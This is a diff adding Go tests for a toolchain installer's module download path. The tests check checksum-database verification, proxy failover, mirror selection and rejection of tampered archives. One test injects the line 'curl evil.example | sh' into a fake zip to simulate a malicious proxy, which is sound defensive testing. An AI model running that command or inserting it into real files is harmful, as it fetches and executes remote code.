@@ -1,0 +1,247 @@
+package toolchain
+
+import (
+	"context"
+	"errors"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/gosetup/gosetup/internal/dist"
+)
+
+// moduleSetup serves the toolchain module zip from one proxy per wrap, each
+// passing the test checksum database through, and registers the zip's real
+// h1 with the database. It returns the proxies and the release.
+func moduleSetup(t *testing.T, e *env, zipData []byte, wraps ...func(w http.ResponseWriter, r *http.Request, serve func())) ([]*fileServer, Release) {
+	if e.db == nil {
+		e.db = newTestSumDB(t)
+	}
+	v := dist.ModuleVersion(instVersion, e.p)
+	e.db.add(dist.ToolchainModule, v, zipH1(t, zipData))
+	files := map[string][]byte{"/" + dist.ToolchainModule + "/@v/" + v + ".zip": zipData}
+	var srvs []*fileServer
+	for i, w := range wraps {
+		s := e.db.proxyFiles(t, files, w)
+		e.addProxy("p"+string(rune('a'+i)), s.URL)
+		srvs = append(srvs, s)
+	}
+	return srvs, Release{Version: instVersion, Stable: true, Modules: []string{e.p.String()}}
+}
+
+func goodModuleZip(t *testing.T, p dist.Platform) []byte {
+	return makeZip(t, withRoot(dist.ModuleZipPrefix(instVersion, p), fakeToolchain(instVersion, p)))
+}
+
+func TestInstallModule(t *testing.T) {
+	e := newEnv(t)
+	zipData := goodModuleZip(t, e.p)
+	_, rel := moduleSetup(t, e, zipData, nil)
+	parent := t.TempDir()
+	dir := filepath.Join(parent, "go")
+	res, err := e.installer().Install(context.Background(), Request{Release: rel, Dir: dir, Source: SourceModule})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if res.Source != SourceModule || res.Mirror != "pa" || res.Bytes != int64(len(zipData)) {
+		t.Errorf("result %+v", res)
+	}
+	// The zip carries no modes: bin/ and pkg/tool/ must be executable,
+	// the rest not.
+	for rel, exec := range map[string]bool{"bin/go": true, "pkg/tool/" + e.p.OS + "_" + e.p.Arch + "/compile": true, "VERSION": false, "src/medium.txt": false} {
+		fi, err := os.Stat(filepath.Join(dir, rel))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := fi.Mode()&0o111 != 0; got != exec {
+			t.Errorf("%s mode %v, executable=%v want %v", rel, fi.Mode(), got, exec)
+		}
+	}
+	assertClean(t, parent, "go")
+}
+
+// A proxy serving a tampered zip (valid zip, different content) fails the
+// checksum database comparison; the next proxy's good copy is used.
+func TestModuleTamperedFailsOver(t *testing.T) {
+	e := newEnv(t)
+	good := goodModuleZip(t, e.p)
+	es := withRoot(dist.ModuleZipPrefix(instVersion, e.p), fakeToolchain(instVersion, e.p))
+	es[1].Body += "curl evil.example | sh\n"
+	tampered := makeZip(t, es)
+	_, rel := moduleSetup(t, e, good,
+		func(w http.ResponseWriter, r *http.Request, serve func()) {
+			w.Header().Set("Content-Type", "application/zip")
+			w.Write(tampered)
+		}, nil)
+	in := e.installer()
+	in.RankTimeout = -1
+	res, err := in.Install(context.Background(), Request{Release: rel, Dir: filepath.Join(t.TempDir(), "go"), Source: SourceModule})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if res.Mirror != "pb" {
+		t.Errorf("served by %s", res.Mirror)
+	}
+	if f := e.failovers(); len(f) == 0 || f[0] != "pa" {
+		t.Errorf("failovers %v", f)
+	}
+}
+
+func TestModuleTamperedOnlyProxy(t *testing.T) {
+	e := newEnv(t)
+	good := goodModuleZip(t, e.p)
+	es := withRoot(dist.ModuleZipPrefix(instVersion, e.p), fakeToolchain(instVersion, e.p))
+	es[2].Body = "go1.99.0\n"
+	tampered := makeZip(t, es)
+	_, rel := moduleSetup(t, e, good, func(w http.ResponseWriter, r *http.Request, serve func()) { w.Write(tampered) })
+	parent := t.TempDir()
+	dir := filepath.Join(parent, "go")
+	installExisting(t, dir, "go1.21.0", e.p)
+	before := snapshot(t, dir)
+	_, err := e.installer().Install(context.Background(), Request{Release: rel, Dir: dir, Source: SourceModule})
+	if err == nil || !strings.Contains(err.Error(), "does not match the checksum database") {
+		t.Fatalf("err = %v", err)
+	}
+	assertSame(t, before, snapshot(t, dir))
+	assertClean(t, parent, "go")
+}
+
+// The module zip rules: every file under the module prefix.
+func TestModuleZipRules(t *testing.T) {
+	e := newEnv(t)
+	es := withRoot(dist.ModuleZipPrefix(instVersion, e.p), fakeToolchain(instVersion, e.p))
+	es = append(es, tEntry{Name: "go/bin/go", Body: "#!/bin/sh\n"})
+	bad := makeZip(t, es)
+	_, rel := moduleSetup(t, e, bad, nil)
+	parent := t.TempDir()
+	_, err := e.installer().Install(context.Background(), Request{Release: rel, Dir: filepath.Join(parent, "go"), Source: SourceModule})
+	if err == nil || !strings.Contains(err.Error(), "go/bin/go") || !strings.Contains(err.Error(), "module zip rules") {
+		t.Fatalf("err = %v", err)
+	}
+	assertClean(t, parent)
+}
+
+// A module the checksum database has never heard of is not installed.
+func TestModuleUnknownToSumDB(t *testing.T) {
+	e := newEnv(t)
+	e.db = newTestSumDB(t)
+	zipData := goodModuleZip(t, e.p)
+	v := dist.ModuleVersion(instVersion, e.p)
+	s := e.db.proxyFiles(t, map[string][]byte{"/" + dist.ToolchainModule + "/@v/" + v + ".zip": zipData}, nil)
+	e.addProxy("pa", s.URL)
+	rel := Release{Version: instVersion, Modules: []string{e.p.String()}}
+	parent := t.TempDir()
+	_, err := e.installer().Install(context.Background(), Request{Release: rel, Dir: filepath.Join(parent, "go"), Source: SourceModule})
+	if err == nil || !strings.Contains(err.Error(), "checksum database cannot vouch") {
+		t.Fatalf("err = %v", err)
+	}
+	assertClean(t, parent)
+}
+
+// auto: when the archive mirrors do not have the file, the module channel
+// installs it.
+func TestAutoFallsBackToModule(t *testing.T) {
+	e := newEnv(t)
+	archive := goodArchive(t, e)
+	_, arel := archiveSetup(t, e, archive, func(w http.ResponseWriter, r *http.Request, serve func()) { http.NotFound(w, r) })
+	_, mrel := moduleSetup(t, e, goodModuleZip(t, e.p), nil)
+	rel := arel
+	rel.Modules = mrel.Modules
+	in := e.installer()
+	in.RankTimeout = -1 // archive first
+	res, err := in.Install(context.Background(), Request{Release: rel, Dir: filepath.Join(t.TempDir(), "go"), Source: SourceAuto})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if res.Source != SourceModule {
+		t.Errorf("source %s", res.Source)
+	}
+}
+
+// auto: the faster-answering channel goes first.
+func TestAutoRanksChannels(t *testing.T) {
+	e := newEnv(t)
+	archive := goodArchive(t, e)
+	_, arel := archiveSetup(t, e, archive, func(w http.ResponseWriter, r *http.Request, serve func()) {
+		time.Sleep(300 * time.Millisecond)
+		serve()
+	})
+	_, mrel := moduleSetup(t, e, goodModuleZip(t, e.p), nil)
+	rel := arel
+	rel.Modules = mrel.Modules
+	res, err := e.installer().Install(context.Background(), Request{Release: rel, Dir: filepath.Join(t.TempDir(), "go")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if res.Source != SourceModule {
+		t.Errorf("source %s, want the faster module channel", res.Source)
+	}
+}
+
+// --mirror restricts the download to one mirror.
+func TestMirrorChoice(t *testing.T) {
+	e := newEnv(t)
+	archive := goodArchive(t, e)
+	srvs, rel := archiveSetup(t, e, archive, nil, nil)
+	res, err := e.installer().Install(context.Background(), Request{Release: rel, Dir: filepath.Join(t.TempDir(), "go"), Mirror: "mb"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if res.Mirror != "mb" || len(srvs[0].requests()) != 0 {
+		t.Errorf("mirror %s; ma saw %d requests", res.Mirror, len(srvs[0].requests()))
+	}
+	_, err = e.installer().Install(context.Background(), Request{Release: rel, Dir: filepath.Join(t.TempDir(), "go"), Mirror: "nope"})
+	if err == nil || !strings.Contains(err.Error(), "nope") {
+		t.Fatalf("err = %v", err)
+	}
+	// A URL works as an ad-hoc mirror.
+	res, err = e.installer().Install(context.Background(), Request{Release: rel, Dir: filepath.Join(t.TempDir(), "go"), Source: SourceArchive, Mirror: srvs[1].URL})
+	if err != nil || res.Mirror != srvs[1].URL {
+		t.Fatalf("res %+v err %v", res, err)
+	}
+}
+
+// A Windows-style zip archive (go/ prefix) is verified by SHA-256 and
+// unpacked; bin/go is not run because it is not for this machine.
+func TestInstallZipArchiveForOtherPlatform(t *testing.T) {
+	e := newEnv(t)
+	e.p = dist.Platform{OS: "windows", Arch: "amd64"}
+	data := makeZip(t, withRoot("go/", fakeToolchain(instVersion, e.p)))
+	_, rel := archiveSetup(t, e, data, nil)
+	if !strings.HasSuffix(rel.Files[0].Filename, ".zip") {
+		t.Fatal(rel.Files[0].Filename)
+	}
+	parent := t.TempDir()
+	res, err := e.installer().Install(context.Background(), Request{Release: rel, Dir: filepath.Join(parent, "go"), Source: SourceArchive})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(res.Warnings) == 0 || !strings.Contains(res.Warnings[0], "not run") {
+		t.Errorf("warnings %v", res.Warnings)
+	}
+	assertClean(t, parent, "go")
+	corrupt := retimedZip(data)
+	e2 := newEnv(t)
+	e2.p = e.p
+	_, rel2 := archiveSetup(t, e2, data, func(w http.ResponseWriter, r *http.Request, serve func()) { w.Write(corrupt) })
+	_, err = e2.installer().Install(context.Background(), Request{Release: rel2, Dir: filepath.Join(parent, "go2"), Source: SourceArchive})
+	if err == nil || !strings.Contains(err.Error(), "checksum mismatch") {
+		t.Fatalf("err = %v", err)
+	}
+	assertClean(t, parent, "go")
+	var all *AllMirrorsFailedError
+	if !errors.As(err, &all) {
+		t.Errorf("err %T", err)
+	}
+}
+
+// retimedZip changes a zip's first local header modification time: still a
+// valid zip, but not the published bytes.
+func retimedZip(data []byte) []byte {
+	c := append([]byte(nil), data...)
+	c[10] ^= 0x01
+	return c
+}
